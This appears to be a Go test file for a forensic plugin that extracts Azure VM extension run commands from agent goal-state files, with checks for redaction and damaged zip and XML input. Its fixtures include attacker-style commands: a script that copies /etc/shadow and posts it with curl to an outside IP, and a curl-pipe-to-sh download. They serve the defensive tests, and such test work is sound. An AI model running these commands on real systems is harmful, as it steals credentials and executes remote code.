package goalstate

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log"
	"path/filepath"
	"strings"
	"testing"

	"github.com/Velocidex/ordereddict"
	"www.velocidex.com/golang/vfilter"
	"www.velocidex.com/golang/vfilter/types"

	"github.com/azvql/azvql/plugins/evidence"
)

const (
	rc1Script = "#!/bin/sh\nid\ncat /etc/shadow > /tmp/.s\ncurl -s -X POST --data-binary @/tmp/.s http://203.0.113.7/u\n"
	fakeSig   = "Zml4dHVyZS1zaWduYXR1cmUtbm90LWEtc2VjcmV0%3D"
	hist      = "/var/lib/waagent/history/"
)

func TestWalkLinuxFixture(t *testing.T) {
	root := fixtureCopy(t, "goalstates")
	res := walkDir(t, root, true)
	logs := res.logText()

	// Order of sources: legacy files, then history by name.
	var order []string
	for _, r := range res.Rows {
		k := r.Source + "|" + r.Member
		if len(order) == 0 || order[len(order)-1] != k {
			order = append(order, k)
		}
	}
	wantOrder := []string{
		"/var/lib/waagent/ExtensionsConfig.10.xml|",
		"/var/lib/waagent/ExtensionsConfig.11.xml|",
		hist + "2021-11-16T13-23-05__9.zip|ExtensionsConfig.xml",
		hist + "2021-11-16T13-23-06__9-1737442375466306613.zip|VmSettings.json",
		hist + "2023-08-04T09-43-27__3/ExtensionsConfig.xml|",
		hist + "2024-05-02T10-11-09__5-4012345678901234567.zip|ExtensionsConfig.xml",
		hist + "2024-05-02T10-11-09__5-4012345678901234567.zip|VmSettings.json",
		hist + "2024-05-02T11-30-00__6/ExtensionsConfig.xml|",
		hist + "2025-06-11T21-44-41__1-7390268434121519467/ExtensionsConfig.xml|",
		hist + "2025-06-11T21-44-41__1-7390268434121519467/VmSettings.json|",
	}
	if strings.Join(order, "\n") != strings.Join(wantOrder, "\n") {
		t.Fatalf("sources:\n%s\nlogs:\n%s", strings.Join(order, "\n"), logs)
	}
	if len(res.Rows) != 2+2+1+7+2+2+2+3+3 {
		t.Errorf("rows: %d", len(res.Rows))
	}
	for _, r := range res.Rows {
		if r.OS != "Linux" || r.Mtime.IsZero() {
			t.Errorf("row: %+v", r)
		}
	}

	// Legacy unredacted ExtensionsConfig.10.xml.
	legacy := res.bySource("/var/lib/waagent/ExtensionsConfig.10.xml", "")
	rc := legacy[0]
	if rc.Handler != "Microsoft.CPlat.Core.RunCommandLinux" || rc.Version != "1.0.5" || i64(rc.SeqNo) != int64(3) ||
		i64(rc.Incarnation) != int64(10) || rc.ETag != "" || rc.Format != FormatExtensionsConfig ||
		!rc.Created.Equal(mustTime(t, "2021-11-16T20:21:52.3456789Z")) ||
		!rc.Mtime.Equal(mustTime(t, "2021-11-16T20:22:03.117Z")) ||
		rc.Command != rc1Script || !strings.HasPrefix(rc.ProtectedSettings, "MIIByAYJKoZIhvcNAQcD") ||
		rc.Thumbprint != "EE22B5ECAC6A83B581A7CAC1772BEBD0E016649F" {
		t.Errorf("RC v1: %+v", rc)
	}
	if len(rc.FileUris) != 1 || !strings.HasSuffix(rc.FileUris[0], "&sig=[REDACTED]") || strings.Contains(pubJSON(t, rc.PublicSettings), fakeSig) {
		t.Errorf("RC v1 not redacted: %v %s", rc.FileUris, pubJSON(t, rc.PublicSettings))
	}
	if cse := legacy[1]; cse.Command != "#!/bin/sh\necho fixture-cse-script > /tmp/cse.txt\n" || i64(cse.SeqNo) != int64(1) {
		t.Errorf("CSE script: %+v", cse)
	}

	// The zipped real ext_conf.xml.
	z := res.bySource(hist+"2021-11-16T13-23-05__9.zip", "ExtensionsConfig.xml")
	if len(z) != 1 || z[0].Handler != "OSTCExtensions.ExampleHandlerLinux" || i64(z[0].Incarnation) != int64(9) ||
		!z[0].Created.Equal(mustTime(t, "2021-11-16T13:22:50.6205217Z")) || z[0].ProtectedSettings != "MIICWgYJK" ||
		pubJSON(t, z[0].PublicSettings) != `{"foo":"bar"}` || !z[0].Mtime.Equal(mustTime(t, "2021-11-16T20:22:02.904Z")) {
		t.Errorf("ext_conf zip: %+v", z)
	}

	// The zip that ends early: the complete member and the first entry of the cut one.
	trunc := hist + "2024-05-02T10-11-09__5-4012345678901234567.zip"
	ec := res.bySource(trunc, "ExtensionsConfig.xml")
	vs := res.bySource(trunc, "VmSettings.json")
	if len(ec) != 1 || len(vs) != 1 {
		t.Fatalf("truncated zip: %d %d\n%s", len(ec), len(vs), logs)
	}
	if ec[0].Command != "curl -fsSL http://198.51.100.23/x.sh | sh" || ec[0].ETag != "4012345678901234567" || i64(ec[0].Incarnation) != int64(5) ||
		!strings.Contains(pubJSON(t, ec[0].PublicSettings), "sig=[REDACTED]") || ec[0].ProtectedSettings != "***REDACTED***" {
		t.Errorf("truncated zip EC: %+v", ec[0])
	}
	if vs[0].Handler != "Microsoft.CPlat.Core.RunCommandHandlerLinux" || i64(vs[0].SeqNo) != int64(2) ||
		!vs[0].Created.Equal(mustTime(t, "2024-05-02T10:11:01.7654321Z")) {
		t.Errorf("truncated zip VS: %+v", vs[0])
	}
	for _, want := range []string{
		trunc + ": zip ends early or is damaged",
		trunc + ": member VmSettings.json: member data ends early",
		trunc + ": member VmSettings.json: malformed JSON",
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("missing log %q in\n%s", want, logs)
		}
	}

	// Malformed XML: the settings before the damage, and log lines naming the file.
	bad := hist + "2024-05-02T11-30-00__6/ExtensionsConfig.xml"
	b := res.bySource(bad, "")
	if len(b) != 2 || b[0].Handler != "Microsoft.CPlat.Core.RunCommandHandlerLinux" || i64(b[0].SeqNo) != int64(3) || b[0].PublicSettings != nil ||
		b[1].Handler != "Microsoft.Azure.Extensions.CustomScript" || b[1].Version != "2.1.10" || b[1].Command != "" {
		t.Errorf("malformed: %+v", b)
	}
	for _, want := range []string{
		bad + ": malformed XML: XML syntax error on line 24: element <RuntimeSettings> closed by </RuntimeSetting>",
		bad + ": Microsoft.CPlat.Core.RunCommandHandlerLinux seqNo 3: RuntimeSettings is not valid settings JSON",
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("missing log %q in\n%s", want, logs)
		}
	}

	// Hibernate folder: FastTrack eTag from the folder name.
	hib := res.bySource(hist+"2025-06-11T21-44-41__1-7390268434121519467/VmSettings.json", "")
	if len(hib) != 3 || hib[1].ETag != "7390268434121519467" || i64(hib[1].Incarnation) != int64(1) || i64(hib[1].SeqNo) != int64(5) ||
		!hib[1].Mtime.Equal(mustTime(t, "2025-06-11T21:44:41.805Z")) {
		t.Errorf("hibernate VmSettings: %+v", hib)
	}
	if len(res.Logs) != 5 {
		t.Errorf("log lines: %d\n%s", len(res.Logs), logs)
	}

	// redact=false: the signature as found.
	raw := walkDir(t, root, false)
	rc = raw.bySource("/var/lib/waagent/ExtensionsConfig.10.xml", "")[0]
	if !strings.HasSuffix(rc.FileUris[0], "sig="+fakeSig) || !strings.Contains(pubJSON(t, rc.PublicSettings), fakeSig) {
		t.Errorf("redact=false: %v", rc.FileUris)
	}
}

func TestWalkWindowsFixture(t *testing.T) {
	root := fixtureCopy(t, "goalstates-windows")
	res := walkDir(t, root, true)
	if len(res.Logs) != 0 {
		t.Errorf("logs (the other kind of XML must be skipped quietly):\n%s", res.logText())
	}
	cfg := res.bySource(`C:\WindowsAzure\Config\ExtensionsConfig.4.xml`, "")
	if len(cfg) != 7 || cfg[0].ExtensionName != "firstRunCommand" || cfg[1].ExtensionName != "secondRunCommand" ||
		cfg[2].ExtensionName != "thirdRunCommand" || i64(cfg[2].SeqNo) != int64(1) || cfg[0].OS != "Windows" ||
		!cfg[0].Mtime.Equal(mustTime(t, "2020-11-20T23:49:21.4Z")) || i64(cfg[0].Incarnation) != int64(4) {
		t.Errorf("Config: %+v", cfg)
	}
	zipPath := `C:\WindowsAzure\CollectGuestLogsTemp\4b1f0c9e-2a7d-4e3b-8c5f-9d6a1b2c3e4f.zip`
	member := `Config\WireServerRoleExtensionsConfig_7a3e1c52-9d4b-4f0e-b8a1-2c6d5e4f3a21._WINVM01.xml`
	z := res.bySource(zipPath, member)
	if len(z) != 2 {
		t.Fatalf("zip rows: %d (%+v)", len(z), res.Rows)
	}
	rc, cse := z[0], z[1]
	if rc.Handler != "Microsoft.CPlat.Core.RunCommandWindows" || rc.Version != "1.1.17" || rc.Command != "whoami\nGet-Process" ||
		i64(rc.SeqNo) != int64(2) || i64(rc.Incarnation) != int64(7) || !strings.HasPrefix(rc.ProtectedSettings, "MIIByAYJ") ||
		!rc.Created.Equal(mustTime(t, "2024-03-14T09:26:53.5897932Z")) || !rc.Mtime.Equal(mustTime(t, "2024-03-14T09:40:13Z")) {
		t.Errorf("RunCommandWindows: %+v", rc)
	}
	if cse.Handler != "Microsoft.Compute.CustomScriptExtension" || cse.Command != "powershell -ExecutionPolicy Unrestricted -File setup.ps1" ||
		len(cse.FileUris) != 1 || cse.FileUris[0] != "https://fixturestore.blob.core.windows.net/scripts/setup.ps1?sv=2021-08-06&sr=b&sp=r&sig=[REDACTED]" {
		t.Errorf("CSE: %+v", cse)
	}
	if len(res.Rows) != 9 {
		t.Errorf("rows: %d", len(res.Rows))
	}
}

// zipBytes builds a zip with Go's writer (data descriptors: flag bit 3).
func zipBytes(t testing.TB, members ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		w, err := zw.Create(m[0])
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, m[1])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestLegacyZipNamesAndBadInput(t *testing.T) {
	dir := t.TempDir()
	wa := filepath.Join(dir, "var", "lib", "waagent")
	ec := string(fixtureFile(t, "goalstates/var/lib/waagent/history/2023-08-04T09-43-27__3/ExtensionsConfig.xml"))
	vs := string(fixtureFile(t, hibernateDir+"VmSettings.json"))

	// Agents <= 2.7: <ISO>_incarnation_<N>.zip holding ExtensionsConfig.<N>.xml.
	writeFile(t, filepath.Join(wa, "history", "2018-04-06T08:21:37.142697_incarnation_3.zip"),
		zipBytes(t, [2]string{"ExtensionsConfig.8.xml", ec}, [2]string{"GoalState.8.xml", "<GoalState/>"}))
	// A Go-written zip (data descriptors) cut inside its second member.
	full := zipBytes(t, [2]string{"ExtensionsConfig.xml", ec}, [2]string{"VmSettings.json", vs}, [2]string{"waagent_status.json", "{}"})
	writeFile(t, filepath.Join(wa, "history", "2024-01-01T00-00-00__4-77.zip"), full[:len(full)*2/3])
	// Not a zip at all.
	writeFile(t, filepath.Join(wa, "history", "2024-01-01T00-00-01__5.zip"), []byte("this is not a zip"))
	// 0-byte and garbage goal states; a UTF-16 one.
	writeFile(t, filepath.Join(wa, "history", "2024-01-01T00-00-02__6", "ExtensionsConfig.xml"), nil)
	writeFile(t, filepath.Join(wa, "history", "2024-01-01T00-00-02__6", "VmSettings.json"), []byte("\x00\xff garbage"))
	writeFile(t, filepath.Join(wa, "VmSettings.json"), []byte("{\"extensionGoalStates\":[{\"name\":\"X\",\"version\":\"1\"}]}"))
	writeFile(t, filepath.Join(wa, "ExtensionsConfig.2.xml"), []byte(`<?xml version="1.0"?><GoalState/>`))
	// A stored (uncompressed) member, cut.
	var sb bytes.Buffer
	zw := zip.NewWriter(&sb)
	w, _ := zw.CreateHeader(&zip.FileHeader{Name: "ExtensionsConfig.xml", Method: zip.Store})
	io.WriteString(w, ec)
	zw.Close()
	writeFile(t, filepath.Join(wa, "history", "2024-01-01T00-00-03__7.zip"), sb.Bytes()[:bytes.Index(sb.Bytes(), []byte("<PluginSettings>"))])
	// Windows: garbage XML in Config is reported; the member name with a folder in front still matches.
	writeFile(t, filepath.Join(dir, "WindowsAzure", "Config", "broken.xml"), []byte("\x00\x01\x02"))
	writeFile(t, filepath.Join(dir, "WindowsAzure", "CollectGuestLogsTemp", "a.zip"),
		zipBytes(t, [2]string{`VMAgentLogs\Config\WireServerRoleExtensionsConfig_x._VM.XML`, ec}))

	res := walkDir(t, dir, true)
	logs := res.logText()

	legacy := res.bySource(hist+"2018-04-06T08:21:37.142697_incarnation_3.zip", "ExtensionsConfig.8.xml")
	if len(legacy) != 2 || i64(legacy[0].Incarnation) != int64(8) || legacy[1].Handler != "Microsoft.Azure.Extensions.CustomScript" {
		t.Errorf("legacy zip (member name wins over zip name): %+v", legacy)
	}
	cut := res.bySource(hist+"2024-01-01T00-00-00__4-77.zip", "ExtensionsConfig.xml")
	if len(cut) != 2 || cut[0].ETag != "77" || i64(cut[0].Incarnation) != int64(4) {
		t.Errorf("cut Go zip: %+v\n%s", cut, logs)
	}
	if v := res.bySource("/var/lib/waagent/VmSettings.json", ""); len(v) != 1 || v[0].Handler != "X" || v[0].Incarnation != nil {
		t.Errorf("top-level VmSettings.json: %+v", v)
	}
	stored := res.bySource(hist+"2024-01-01T00-00-03__7.zip", "ExtensionsConfig.xml")
	if len(stored) == 0 || stored[0].Handler != "Microsoft.Azure.Monitor.AzureMonitorLinuxAgent" {
		t.Errorf("cut stored member: %+v\n%s", stored, logs)
	}
	win := res.bySource(`C:\WindowsAzure\CollectGuestLogsTemp\a.zip`, `VMAgentLogs\Config\WireServerRoleExtensionsConfig_x._VM.XML`)
	if len(win) != 2 || win[0].OS != "Windows" {
		t.Errorf("windows member: %+v", win)
	}
	for _, want := range []string{
		hist + "2024-01-01T00-00-01__5.zip: not a zip file",
		hist + "2024-01-01T00-00-02__6/ExtensionsConfig.xml: empty file",
		hist + "2024-01-01T00-00-02__6/VmSettings.json: malformed JSON",
		"/var/lib/waagent/ExtensionsConfig.2.xml: skipped: not an ExtensionsConfig document (root element <GoalState>)",
		`C:\WindowsAzure\Config\broken.xml: malformed XML`,
		hist + "2024-01-01T00-00-00__4-77.zip: zip ends early or is damaged",
		hist + "2024-01-01T00-00-00__4-77.zip: member VmSettings.json: member data ends early",
		hist + "2024-01-01T00-00-03__7.zip: member ExtensionsConfig.xml: member data ends early",
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("missing log %q in\n%s", want, logs)
		}
	}
}

// noReaderAt hides io.ReaderAt and io.Seeker: zips are then read capped into memory.
type noReaderAt struct{ evidence.OSAccessor }

type plainFile struct{ f evidence.File }

func (p plainFile) Read(b []byte) (int, error) { return p.f.Read(b) }
func (p plainFile) Close() error               { return p.f.Close() }

func (a noReaderAt) Open(path string) (evidence.File, error) {
	f, err := a.OSAccessor.Open(path)
	if err != nil {
		return nil, err
	}
	return plainFile{f}, nil
}

func TestWithoutReaderAt(t *testing.T) {
	for _, name := range []string{"goalstates", "goalstates-windows"} {
		dir := filepath.Join(repoFixtures, name)
		a := walkDir(t, dir, true)
		b := walkRoot(t, evidence.NewRoot(noReaderAt{}, dir), true)
		if len(a.Rows) != len(b.Rows) || a.logText() != b.logText() {
			t.Fatalf("%s: %d vs %d rows\n%s\n---\n%s", name, len(a.Rows), len(b.Rows), a.logText(), b.logText())
		}
		for i := range a.Rows {
			ja, _ := json.Marshal(a.Rows[i].Dict())
			jb, _ := json.Marshal(b.Rows[i].Dict())
			if string(ja) != string(jb) {
				t.Errorf("%s row %d:\n%s\n%s", name, i, ja, jb)
			}
		}
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	n := 0
	w := &Walker{
		Root: evidence.NewRoot(evidence.OSAccessor{}, filepath.Join(repoFixtures, "goalstates")),
		Emit: func(*Row) bool { n++; cancel(); return true },
	}
	w.Walk(ctx)
	if n != 1 {
		t.Errorf("rows after cancel: %d", n)
	}
}

type logBuf struct{ bytes.Buffer }

func runVQL(t testing.TB, query string, vars *ordereddict.Dict) ([]*ordereddict.Dict, string) {
	t.Helper()
	lb := &logBuf{}
	scope := vfilter.NewScope().AppendVars(vars)
	scope.AppendPlugins(Plugins()...)
	scope.SetLogger(log.New(lb, "", 0))
	defer scope.Close()
	q, err := vfilter.Parse(query)
	if err != nil {
		t.Fatal(err)
	}
	var rows []*ordereddict.Dict
	for row := range q.Eval(context.Background(), scope) {
		rows = append(rows, row.(*ordereddict.Dict))
	}
	return rows, lb.String()
}

func TestPlugin(t *testing.T) {
	root := filepath.Join(repoFixtures, "goalstates-windows")
	rows, logs := runVQL(t, "SELECT * FROM azure_goal_states(root=Root)", ordereddict.NewDict().Set("Root", root))
	if len(rows) != 9 || logs != "" {
		t.Fatalf("rows %d logs %s", len(rows), logs)
	}
	if strings.Join(rows[0].Keys(), ",") != strings.Join(Columns, ",") {
		t.Errorf("columns: %v", rows[0].Keys())
	}
	last := rows[8]
	if u, _ := last.Get("FileUris"); !strings.Contains(pubJSON(t, u), "sig=[REDACTED]") {
		t.Errorf("default redact: %v", u)
	}
	if m, _ := last.Get("Member"); m == nil {
		t.Error("Member")
	}
	if m, _ := rows[0].Get("Member"); !isNull(m) {
		t.Errorf("Member of a plain file: %v", m)
	}
	rows, _ = runVQL(t, "SELECT * FROM azure_goal_states(root=Root, redact=false)", ordereddict.NewDict().Set("Root", root))
	if u, _ := rows[8].Get("FileUris"); !strings.Contains(pubJSON(t, u), "sig="+fakeSig) {
		t.Errorf("redact=false: %v", u)
	}
	// Nothing there: no rows, one warning (no agent layout).
	rows, logs = runVQL(t, "SELECT * FROM azure_goal_states(root=Root)", ordereddict.NewDict().Set("Root", t.TempDir()))
	if len(rows) != 0 || !strings.HasPrefix(logs, "WARN:azure_goal_states: ") || !strings.Contains(logs, "is this the root") {
		t.Errorf("empty root: %d %s", len(rows), logs)
	}
	info := Plugin{}.Info(vfilter.NewScope(), types.NewTypeMap())
	if info.Name != PluginName || info.Version < 1 {
		t.Errorf("info: %+v", info)
	}
}

func isNull(v interface{}) bool {
	_, null := v.(types.Null)
	return v == nil || null
}

// Windows layouts match case-insensitively; rows name files as the evidence spells them.
func TestWindowsCaseInsensitive(t *testing.T) {
	dir := t.TempDir()
	ec := fixtureFile(t, multiEC)
	writeFile(t, filepath.Join(dir, "windowsazure", "CONFIG", "extensionsconfig.4.XML"), ec)
	writeFile(t, filepath.Join(dir, "windowsazure", "collectguestlogstemp", "X.ZIP"),
		zipBytes(t, [2]string{`config\wireserverroleextensionsconfig_x._vm.xml`, string(ec)}))
	res := walkDir(t, dir, true)
	if n := len(res.bySource(`C:\windowsazure\CONFIG\extensionsconfig.4.XML`, "")); n != 7 {
		t.Errorf("Config: %d rows\n%+v\n%s", n, res.Rows, res.logText())
	}
	if n := len(res.bySource(`C:\windowsazure\collectguestlogstemp\X.ZIP`, `config\wireserverroleextensionsconfig_x._vm.xml`)); n != 7 {
		t.Errorf("zip: %d rows\n%+v\n%s", n, res.Rows, res.logText())
	}
}
